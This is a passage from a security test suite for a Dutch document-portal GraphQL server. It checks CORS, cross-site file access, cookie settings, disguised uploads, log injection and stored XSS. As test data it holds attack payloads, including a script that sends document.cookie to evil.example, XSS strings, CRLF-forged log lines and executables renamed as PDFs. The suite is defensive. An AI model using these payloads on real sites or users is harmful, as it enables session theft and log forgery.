      headers: { ...fromEvil, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type,apollo-require-preflight' },
    });
    expect(preflight.headers.get('access-control-allow-origin')).toBeNull();
    expect(preflight.headers.get('access-control-allow-credentials')).toBeNull();
    const res = await fetch(`${server.url}/graphql`, { method: 'POST', headers: { ...fromEvil, cookie: company.cookie, 'content-type': 'application/json' }, body: JSON.stringify({ query: '{ me { email } }' }) });
    expect(res.headers.get('access-control-allow-origin')).toBeNull();
  });

  it('opens no document from a link or page on another site, so nothing is marked read or audited as downloaded', async () => {
    const { id } = (await upload(staff, PUBLISH, { input: { dossierId: ids.companyDossier, category: 'DOCUMENT', title: 'Lax', file: null } }, { 'variables.input.file': { name: 'lax.pdf', body: PDF } })).body.data!.publishDocument;
    const readState = async () =>
      (await company.ok('query ($d: ID!) { dossier(id: $d) { documents(category: DOCUMENT, first: 100) { edges { node { id read } } } } }', { d: ids.companyDossier })).dossier.documents.edges.find(
        (e: { node: { id: string } }) => e.node.id === id,
      ).node.read;
    const open = (site: string) => fetch(`${server.url}/files/${id}`, { headers: { cookie: company.cookie, 'sec-fetch-site': site, 'sec-fetch-mode': 'navigate', ...(site === 'none' ? {} : fromEvil) } });
    const rows = await auditRows();
    for (const site of ['cross-site', 'same-site']) {
      const res = await open(site);
      expect(res.status, site).toBe(404);
      expect(await res.text(), site).toBe('Not found');
    }
    expect(await readState()).toBe(false);
    expect(await auditRows()).toBe(rows);
    // Typed into the address bar, or followed from the portal's own pages.
    expect((await open('none')).status).toBe(200);
    expect(await readState()).toBe(true);
    const sameOrigin = await fetch(`${server.url}/files/${id}`, { headers: { cookie: company.cookie, 'sec-fetch-site': 'same-origin' } });
    expect(sameOrigin.status).toBe(200);
  });

  it('sets the session cookie httpOnly and SameSite=Lax for this host only, so pages elsewhere cannot send or read it', async () => {
    const client = new Client(server);
    await client.ok(SIGN_IN, { email: 'bram@example.nl', password: PASSWORD });
    const attributes = client.lastSetCookie.split(';').slice(1).map((a) => a.trim().toLowerCase());
    expect(attributes).toEqual(expect.arrayContaining(['httponly', 'samesite=lax', 'path=/']));
    expect(attributes.some((a) => a.startsWith('domain='))).toBe(false);
  });
});

describe('batched requests', () => {
  it('refuses a JSON array with a clear error and runs none of it', async () => {
    const res = await post([{ query: SET_LANGUAGE }, { query: '{ me { email } }' }], { cookie: company.cookie });
    expect(res.status).toBe(400);
    expect(res.text).toMatch(/batch/i);
    expect(res.text).not.toContain('directie@bedrijf.nl');
    expect(await languageOf(company)).toBe('NL');
  });
});

// ---------------------------------------------------------------------------------------------
// Uploads
// ---------------------------------------------------------------------------------------------

/** Sends bytes over a bare TCP socket, so no client library tidies them up; null when the server closes without answering. */
function rawRequest(chunks: (string | Buffer)[], { hangUp = false, url = server.url } = {}): Promise<{ status: number; body: string } | null> {
  return new Promise((resolve) => {
    const socket = net.connect(Number(new URL(url).port), '127.0.0.1', () => {
      for (const chunk of chunks) socket.write(chunk);
      if (hangUp) socket.destroy();
    });
    socket.setTimeout(15_000, () => socket.destroy());
    let received = '';
    socket.on('data', (chunk) => (received += chunk.toString('latin1')));
    socket.on('error', () => {});
    socket.on('close', () => {
      const status = /^HTTP\/1\.1 (\d{3})/.exec(received)?.[1];
      resolve(status ? { status: Number(status), body: received.slice(received.indexOf('\r\n\r\n') + 4) } : null);
    });
  });
}

const BOUNDARY = '----kluis-abuse-7d1f';
const SEND_WITH_FILE = (dossierId: string) => JSON.stringify({ query: SEND, variables: { input: { dossierId, subject: 'Bijlage', body: 'Zie bijlage', attachments: [null] } } });
const field = (name: string, value: string) => `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
const filePart = (name: string, fileName: string, body: Buffer | string) =>
  Buffer.concat([Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"; filename="${fileName}"\r\nContent-Type: application/pdf\r\n\r\n`), Buffer.from(body), Buffer.from('\r\n')]);
const closing = `--${BOUNDARY}--\r\n`;
const requestHead = (client: Client, length: number | 'chunked', boundary = BOUNDARY) =>
  `POST /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nApollo-Require-Preflight: true\r\nCookie: ${client.cookie}\r\n` +
  `Content-Type: multipart/form-data${boundary ? `; boundary=${boundary}` : ''}\r\n${length === 'chunked' ? 'Transfer-Encoding: chunked' : `Content-Length: ${length}`}\r\n\r\n`;
const multipart = (parts: (string | Buffer)[], options: { boundary?: string; client?: Client } = {}) => {
  const body = Buffer.concat(parts.map((p) => Buffer.from(p)));
  return rawRequest([requestHead(options.client ?? bram, body.length, options.boundary), body]);
};
const messageRows = async () => Number((await server.db.query('SELECT COUNT(*) AS n FROM message'))[0].n);

describe('uploads', () => {
  let before: number[];
  const counts = async () => [await messageRows(), await documentRows(), storedFiles()];
  beforeAll(async () => {
    before = await counts();
  });
  /** The process is up, answers a normal request, and nothing of the refused upload stayed. */
  const unharmed = async () => {
    expect((await bram.ok('{ me { email } }')).me.email).toBe('bram@example.nl');
    await expect.poll(counts).toEqual(before);
  };

  it.each([
    ['a program named .pdf', 'factuur.pdf', Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00', 'latin1'), Buffer.alloc(512, 0)])],
    ['a program named .exe', 'setup.exe', Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00', 'latin1'), Buffer.alloc(512, 0)])],
    ['an ELF program named .png', 'foto.png', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1'), Buffer.alloc(512, 0)])],
    ['an HTML page named .png', 'foto.png', Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>')],
    ['a script named .pdf', 'brief.pdf', Buffer.from('<script>fetch("https://evil.example/?c="+document.cookie)</script>')],
    ['an SVG with script named .png', 'logo.png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>')],
  ])('refuses %s', async (_what, name, body) => {
    const res = await upload(bram, SEND, { input: { dossierId: ids.bramDossier, subject: 'Bijlage', body: 'x', attachments: [null] } }, { 'variables.input.attachments.0': { name, type: 'application/pdf', body } });
    expect(errorOf(res.body)).toMatchObject({ code: 'BAD_USER_INPUT', reason: 'CONTENT_REFUSED' });
    await unharmed();
  });

  it('serves an HTML page uploaded as .html as an inert attachment, never as a page', async () => {
    const html = Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>');
    const res = await upload(bram, SEND, { input: { dossierId: ids.bramDossier, subject: 'Pagina', body: 'x', attachments: [null] } }, { 'variables.input.attachments.0': { name: 'pagina.html', type: 'text/html', body: html } });
    const attachment = (await bram.ok('query ($id: ID!) { dossier(id: $id) { documents(category: PROVIDED) { edges { node { id fileName mimeType } } } } }', { id: ids.bramDossier })).dossier.documents.edges.at(-1).node;
    expect(res.body.errors).toBeUndefined();
    expect(attachment.mimeType).not.toMatch(/html|svg|xml|javascript/);
    const download = await fetch(`${server.url}/files/${attachment.id}`, { headers: { cookie: staff.cookie } });
    expect(download.headers.get('content-type')).not.toMatch(/html|svg|xml|javascript/);
    expect(download.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(download.headers.get('x-content-type-options')).toBe('nosniff');
    expect(download.headers.get('content-security-policy')).toContain('sandbox');
    before = await counts();
  });

  it('refuses a file over MAX_UPLOAD_MB sent chunked, without a Content-Length to refuse it by', async () => {
    const body = Buffer.concat([Buffer.from(field('operations', SEND_WITH_FILE(ids.bramDossier)) + field('map', '{"0":["variables.input.attachments.0"]}')), filePart('0', 'groot.pdf', Buffer.concat([PDF, Buffer.alloc(1024 * 1024 + 1)])), Buffer.from(closing)]);
    const res = await rawRequest([requestHead(bram, 'chunked'), `${body.length.toString(16)}\r\n`, body, '\r\n0\r\n\r\n']);
    expect(errorOf(JSON.parse(res!.body))).toMatchObject({ code: 'PAYLOAD_TOO_LARGE', field: 'attachments.0' });
    await unharmed();
  });

  it.each<[string, () => (string | Buffer)[], { boundary?: string }?]>([
    ['a boundary other than the one declared', () => [field('operations', SEND_WITH_FILE(ids.bramDossier)), filePart('0', 'a.pdf', PDF), closing], { boundary: 'iets-anders' }],
    ['no map', () => [field('operations', SEND_WITH_FILE(ids.bramDossier)), filePart('0', 'a.pdf', PDF), closing]],
    ['no map, and a large file the server stops reading', () => [field('operations', SEND_WITH_FILE(ids.bramDossier)), filePart('0', 'a.pdf', Buffer.concat([PDF, Buffer.alloc(900_000, 0x20)])), closing]],
    ['a map that is not JSON', () => [field('operations', SEND_WITH_FILE(ids.bramDossier)), field('map', '{"0":'), filePart('0', 'a.pdf', PDF), closing]],
    ['a map naming a file that is not sent', () => [field('operations', SEND_WITH_FILE(ids.bramDossier)), field('map', '{"0":["variables.input.attachments.0"]}'), closing]],
    ['a map pointing outside the operation', () => [field('operations', SEND_WITH_FILE(ids.bramDossier)), field('map', '{"0":["variables.input.nergens.0"]}'), filePart('0', 'a.pdf', PDF), closing]],
    ['operations that are not JSON', () => [field('operations', '{"query":'), field('map', '{"0":["variables.input.attachments.0"]}'), filePart('0', 'a.pdf', PDF), closing]],
    ['a body without its closing boundary', () => [field('operations', SEND_WITH_FILE(ids.bramDossier)), field('map', '{"0":["variables.input.attachments.0"]}'), filePart('0', 'a.pdf', PDF).subarray(0, 300)]],
    ['a part header folded onto a line starting with a space', () => [`--${BOUNDARY}\r\n Content-Disposition: form-data; name="operations"\r\n\r\n${SEND_WITH_FILE(ids.bramDossier)}\r\n`, field('map', '{"0":["variables.input.attachments.0"]}'), filePart('0', 'a.pdf', PDF), closing]],
    ['a Content-Type without a boundary', () => [field('operations', SEND_WITH_FILE(ids.bramDossier)), filePart('0', 'a.pdf', PDF), closing], { boundary: '' }],
  ])('survives %s', async (_what, parts, options) => {
    const res = await multipart(parts(), options);
    expect(res, 'an answer').not.toBeNull();
    expect(res!.status, res!.body).toBeLessThan(500);
    if (res!.status === 200) expect(JSON.parse(res!.body).errors, res!.body).toBeDefined();
    await unharmed();
  });

  it('reads a file part header folded in the middle as MIME unfolds it', async () => {
    const folded = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="0";\r\n filename="gevouwen.pdf"\r\nContent-Type: application/pdf\r\n\r\n`;
    const res = await multipart([field('operations', SEND_WITH_FILE(ids.bramDossier)), field('map', '{"0":["variables.input.attachments.0"]}'), folded, PDF, '\r\n', closing]);
    expect(res!.status).toBe(200);
    const sent = JSON.parse(res!.body).data.sendMessage;
    const attachments = (await bram.ok('query ($id: ID!) { dossier(id: $id) { messages(first: 1) { edges { node { id attachments { fileName size } } } } } }', { id: ids.bramDossier })).dossier.messages.edges[0].node;
    expect(attachments).toEqual({ id: sent.id, attachments: [{ fileName: 'gevouwen.pdf', size: PDF.length }] });
    before = await counts();
  });

  it('survives a body cut off mid-file by a client that hangs up, and keeps nothing of it', async () => {
    const body = Buffer.concat([Buffer.from(field('operations', SEND_WITH_FILE(ids.bramDossier)) + field('map', '{"0":["variables.input.attachments.0"]}')), filePart('0', 'a.pdf', Buffer.concat([PDF, Buffer.alloc(200_000, 0x20)]))]);
    await rawRequest([requestHead(bram, body.length + 500_000), body], { hangUp: true });
    await unharmed();
  });
});

// ---------------------------------------------------------------------------------------------
// Log injection
// ---------------------------------------------------------------------------------------------

describe('log injection', () => {
  const FORGED = '\r\n{"level":60,"time":1,"pid":1,"hostname":"kluis","msg":"FORGED"}\r\n';

  it('writes every log line as one JSON object, whatever callers put in addresses, file names, keys, ids and headers', { timeout: 60_000 }, async () => {
    const portal = await portalStarting;
    const { client: admin } = await onboardWithTotp({ url: portal.url } as TestServer, smtp, 'log-admin@kantoor.test');
    const anonymous = new Client({ url: portal.url } as TestServer);
    await anonymous.gql(SIGN_IN, { email: `x${FORGED}@example.nl`, password: FORGED });
    await anonymous.gql('mutation ($e: String!) { requestPasswordLink(email: $e) }', { e: `log-admin@kantoor.test${FORGED}` });
    await admin.gql('mutation ($e: String!) { inviteUser(input: { email: $e }) { id } }', { e: `y${FORGED}@example.nl` });
    const dossierId = (await admin.ok('mutation ($n: String!, $d: String!) { createDossier(input: { number: $n, description: $d }) { id } }', { n: '1\r\n{"msg":"FORGED"}', d: FORGED })).createDossier.id;
    await admin.ok(SEND, { input: { dossierId, subject: FORGED, body: FORGED, idempotencyKey: `k${FORGED}`.slice(0, 100) } });
    await admin.gql('mutation ($id: ID!) { markDocumentRead(id: $id) { id } }', { id: FORGED });
    // A file name with CR LF as RFC 5987 escapes, which the multipart parser decodes.
    const operations = JSON.stringify({ query: PUBLISH, variables: { input: { dossierId, category: 'DOCUMENT', title: FORGED, file: null } } });
    const body = Buffer.concat([
      Buffer.from(field('operations', operations) + field('map', '{"0":["variables.input.file"]}')),
      Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="0"; filename*=UTF-8''${encodeURIComponent(`akte${FORGED}.pdf`)}\r\nContent-Type: application/pdf\r\n\r\n`),
      PDF,
      Buffer.from(`\r\n${closing}`),
    ]);
    const published = await rawRequest([requestHead(admin, body.length), body], { url: portal.url });
    expect(JSON.parse(published!.body).data.publishDocument.fileName).not.toMatch(/[\r\n]/);
    await fetch(`${portal.url}/files/${encodeURIComponent(FORGED)}`, { headers: { cookie: admin.cookie, 'user-agent': 'kluis-abuse', 'x-forwarded-for': '{"level":60,"msg":"FORGED"}' } });
    // Header values with a line break, raw and folded: refused by the HTTP parser before any code of ours runs.
    for (const header of [`User-Agent: kluis${FORGED}`, `User-Agent: kluis\r\n {"level":60,"msg":"FORGED"}\r\n`, `X-Request-Id: a\r{"level":60,"msg":"FORGED"}\r\n`]) {
      const res = await rawRequest([`GET /files/${randomUUID()} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nCookie: ${admin.cookie}\r\n${header}\r\n`], { url: portal.url });
      expect(res?.status ?? 400, header).toBe(400);
    }
    expect((await anonymous.ok('{ portal { name } }')).portal.name).toBeTruthy();
    await portal.stop();

    const lines = portal.output.stdout.split('\n').filter((line) => line.length > 0);
    expect(lines.length).toBeGreaterThan(3);
    for (const line of lines) {
      const parsed = JSON.parse(line) as unknown;
      expect(parsed !== null && typeof parsed === 'object' && !Array.isArray(parsed), line).toBe(true);
      expect((parsed as { msg?: string }).msg, line).not.toBe('FORGED');
    }
    // The payload did reach the log, as an escaped string inside a line.
    expect(lines.some((line) => line.includes('download refused') && line.includes('\\r\\n{\\"level\\":60'))).toBe(true);
    expect(portal.output.stderr).not.toContain('FORGED');
  });
});

// ---------------------------------------------------------------------------------------------
// Stored XSS
// ---------------------------------------------------------------------------------------------

describe('stored XSS', () => {
  const XSS = `<img src=x onerror=alert(1)>"'\u2028<script>alert(2)</script>&lt;`;
  /** For fields of at most 30 characters. */
  const SHORT = `<svg onload=alert(1)>"'&lt;`;

  it('keeps markup in names, subjects, bodies, titles, answers and descriptions exactly as typed, for every reader', async () => {
    const profile = (await bram.ok('mutation ($v: String, $s: String) { updateProfile(input: { firstName: $v, infix: $s, lastName: $v }) { user { profile { firstName infix lastName } } } }', { v: XSS, s: SHORT })).updateProfile.user.profile;
    expect(profile).toEqual({ firstName: XSS, infix: SHORT, lastName: XSS });
    const absence = (await bram.ok('mutation ($v: String) { setAbsence(input: { enabled: false, message: $v }) { absence { message } } }', { v: XSS })).setAbsence.absence.message;
    expect(absence).toBe(XSS);
    const extra = (await company.ok('mutation ($v: String) { addExtraAccount(input: { email: "xss@bedrijf.nl", firstName: $v, lastName: $v }) { profile { firstName lastName } } }', { v: XSS })).addExtraAccount;
    expect(extra.profile).toEqual({ firstName: XSS, lastName: XSS });
    const invited = (await staff.ok('mutation ($v: String) { inviteUser(input: { email: "xss@example.nl", accountKind: COMPANY, companyName: $v, firstName: $v }) { companyName profile { firstName } } }', { v: XSS })).inviteUser;
    expect(invited).toEqual({ companyName: XSS, profile: { firstName: XSS } });
    const token = (await staff.ok('mutation ($v: String!) { createApiToken(name: $v) { apiToken { name } } }', { v: XSS })).createApiToken.apiToken.name;
    expect(token).toBe(XSS);

    const dossierId = (await staff.ok('mutation ($s: String!, $v: String!, $c: [ID!]) { createDossier(input: { number: $s, description: $v, clientIds: $c, progressSteps: [$v] }) { id } }', { s: SHORT, v: XSS, c: [ids.bram] })).createDossier.id;
    const message = (await bram.ok(SEND, { input: { dossierId, subject: XSS, body: XSS } })).sendMessage;
    expect([message.subject, message.body]).toEqual([XSS, XSS]);
    const template = { title: XSS, pages: [{ title: XSS, questions: [{ id: 'keuze', label: XSS, kind: 'SINGLE_CHOICE', options: [XSS, 'Nee'] }, { id: 'tekst', label: XSS, kind: 'TEXTAREA' }] }] };
    const templateId = (await staff.ok('mutation ($input: QuestionnaireTemplateInput!) { createQuestionnaireTemplate(input: $input) { id } }', { input: template })).createQuestionnaireTemplate.id;
    const requestId = (await staff.ok('mutation ($d: ID!, $t: ID!, $a: ID!) { sendQuestionnaire(dossierId: $d, templateId: $t, assigneeId: $a) { id } }', { d: dossierId, t: templateId, a: ids.bram })).sendQuestionnaire.id;
    await bram.ok('mutation ($id: ID!, $a: [AnswerInput!]!) { saveQuestionnairePage(id: $id, page: 0, answers: $a) { id } }', { id: requestId, a: [{ questionId: 'keuze', value: [XSS] }, { questionId: 'tekst', value: [XSS] }] });
    const published = await upload(staff, PUBLISH, { input: { dossierId, category: 'DOCUMENT', title: XSS, file: null } }, { 'variables.input.file': { name: 'akte.pdf', body: PDF } });
    expect(published.body.data!.publishDocument.title).toBe(XSS);

    // Read back by the other side: nothing escaped, stripped or cut.
    const seen = (await staff.ok(
      `query ($d: ID!, $q: ID!) {
        dossier(id: $d) { number description progress { steps { title } } participants { profile { firstName infix lastName } absence { message } }
          messages { edges { node { subject body author { profile { displayName } } } } } documents(category: DOCUMENT) { edges { node { title } } } }
        questionnaire(id: $q) { title pages { title questions { label options } } answers { value } }
      }`,
      { d: dossierId, q: requestId },
    )) as any;
    expect(seen.dossier.number).toBe(SHORT);
    expect(seen.dossier.description).toBe(XSS);
    expect(seen.dossier.progress.steps).toEqual([{ title: XSS }]);
    expect(seen.dossier.participants).toEqual([{ profile: { firstName: XSS, infix: SHORT, lastName: XSS }, absence: { message: XSS } }]);
    expect(seen.dossier.messages.edges[0].node).toEqual({ subject: XSS, body: XSS, author: { profile: { displayName: expect.stringContaining(XSS) } } });
    expect(seen.dossier.documents.edges[0].node.title).toBe(XSS);
    expect(seen.questionnaire).toEqual({ title: XSS, pages: [{ title: XSS, questions: [{ label: XSS, options: [XSS, 'Nee'] }, { label: XSS, options: [] }] }], answers: [{ value: [XSS] }, { value: [XSS] }] });
  });

  it('keeps what a file name may hold verbatim, and escapes nothing in it', async () => {
    const names = {
      [`x' onmouseover='alert(1)' &amp; (1);.pdf`]: `x' onmouseover='alert(1)' &amp; (1);.pdf`,
      // Characters no file system takes (and control characters) are dropped, not HTML-escaped.
      ['<img src=x onerror=alert(1)>.pdf']: 'img src=x onerror=alert(1).pdf',
    };
    for (const [name, kept] of Object.entries(names)) {
      const res = await upload(staff, PUBLISH, { input: { dossierId: ids.companyDossier, category: 'DOCUMENT', title: 'Bestand', file: null } }, { 'variables.input.file': { name, body: PDF } });
      expect(res.body.data!.publishDocument.fileName).toBe(kept);
    }
  });
});
